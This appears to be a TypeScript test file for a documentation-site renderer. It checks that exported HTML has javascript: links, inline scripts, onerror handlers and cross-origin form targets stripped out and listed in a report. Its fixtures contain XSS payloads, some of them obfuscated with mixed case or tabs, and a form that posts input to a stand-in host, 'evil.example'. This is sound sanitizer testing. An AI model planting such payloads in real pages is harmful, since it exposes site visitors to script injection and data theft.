import test from 'ava';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { RemovedActive } from '../../src/render/report/BuildReport.js';
import { renderFiles } from './renderFixture.js';

const SPEC = {
  openapi: '3.1.0',
  info: { title: 'Pets', version: '1', description: 'See [the guide](javascript:alert(1)).' },
  servers: [{ url: 'https://api.example.com/v1' }],
  paths: {
    '/pets': {
      get: {
        summary: 'List pets',
        description: 'Click [here](javascript:alert(2)) or [there](JaVaScRiPt:alert(3)).',
        responses: { 200: { description: 'ok [r](javascript:alert(4))' } },
      },
    },
  },
};

const HOSTILE_MDX = [
  '# Home',
  '',
  '[md link](javascript:alert(5))',
  '',
  '<a href="javascript:alert(6)">jsx link</a>',
  '',
  '<a href={"  java\\tscript:alert(7)"}>spaced</a>',
  '',
  '<script>window.mdxScriptRan = true</script>',
  '',
  '<form action="https://evil.example/collect" method="post"><input name="q" /><button>Go</button></form>',
  '',
  '<form action="/search"><button formAction="//evil.example/x">Find</button></form>',
  '',
  '<img src="logo.png" onerror="alert(8)" />',
  '',
  '<Card title="c" href="javascript:alert(9)">card</Card>',
  '',
].join('\n');

const FILES = {
  'docs.json': JSON.stringify({ name: 'X', navigation: { pages: ['index', 'plain', 'api/list'] } }),
  'openapi.json': JSON.stringify(SPEC),
  'api/list.mdx': '---\nopenapi: GET /pets\n---\n',
  'index.mdx': HOSTILE_MDX,
  'plain.mdx':
    '# Plain\n\nA [link](/index) and <a href="https://example.com/x">another</a>.\n\n<form action="/search"><input name="q" /></form>\n',
  'logo.png': 'png',
};

/** Every attribute value in `html` that a browser would run as script, after its URL parser's clean-up. */
const scriptUrls = (html: string) =>
  [...html.matchAll(/\s(?:href|src|action|formaction)="([^"]*)"/gi)]
    .map((m) => m[1])
    .filter((v) => /^\s*javascript:/i.test(v.replace(/[\t\n\r]|&#x9;|&#9;/g, '')));

test('exported pages: javascript: links, <script>, on… attributes and remote form targets are taken out and listed in the report', async (t) => {
  const { out, result } = await renderFiles(t, FILES);
  const home = await readFile(join(out, 'index.html'), 'utf8');
  const api = await readFile(join(out, 'api/list.html'), 'utf8');
  const content = (html: string) => html.slice(html.indexOf('<main'), html.indexOf('</main>'));

  t.deepEqual(scriptUrls(home), [], 'no javascript: URL on the MDX page');
  t.deepEqual(scriptUrls(api), [], 'no javascript: URL on the OpenAPI page');
  t.false(content(home).includes('<script'), 'no script written in the page survives');
  t.false(home.includes('mdxScriptRan'));
  t.false(/onerror/i.test(home), 'no event-handler attribute');
  t.false(home.includes('evil.example'), 'no form posts to another origin');
  t.true(home.includes('<form action="/search">'), 'a form posting to the site itself is kept');
  t.true(home.includes('>md link</a>') && home.includes('>jsx link</a>'), 'the link texts stay');

  const removed = result.report.removedActive;
  const kinds = (kind: RemovedActive['kind']) => removed.filter((r) => r.kind === kind);
  t.is(kinds('script-url').filter((r) => r.page === 'index').length, 4, JSON.stringify(removed));
  t.is(kinds('script-url').filter((r) => r.page === 'api/list').length, 3, JSON.stringify(removed));
  t.deepEqual(kinds('script'), [{ page: 'index', kind: 'script', where: 'script', value: 'window.mdxScriptRan = true' }]);
  t.deepEqual(kinds('event-handler'), [{ page: 'index', kind: 'event-handler', where: 'img onerror', value: 'alert(8)' }]);
  t.deepEqual(
    kinds('remote-form').map((r) => r.where),
    ['form action', 'button formaction'],
  );
  t.false(
    removed.some((r) => r.page === 'plain'),
    'nothing reported for a page without such content',
  );
});

test('with the site allowing author scripts, scripts written in pages stay; remote forms still go unless remote loads are kept', async (t) => {
  const { out, result } = await renderFiles(t, FILES, { allowAuthorScripts: true });
  const home = await readFile(join(out, 'index.html'), 'utf8');
  t.true(home.includes('<script>window.mdxScriptRan = true</script>'));
  t.true(home.includes('href="javascript:alert(6)"'));
  t.false(home.includes('evil.example'));
  t.deepEqual(
    result.report.removedActive.map((r) => r.kind),
    ['remote-form', 'remote-form'],
  );
  const kept = await renderFiles(t, FILES, { allowAuthorScripts: true, keepRemoteAssets: true });
  t.deepEqual(kept.result.report.removedActive, []);
});

test('a page without scripts, script URLs or remote forms renders byte for byte the same whether author scripts are allowed or not', async (t) => {
  const a = await renderFiles(t, FILES);
  const b = await renderFiles(t, FILES, { allowAuthorScripts: true });
  t.is(await readFile(join(a.out, 'plain.html'), 'utf8'), await readFile(join(b.out, 'plain.html'), 'utf8'));
});
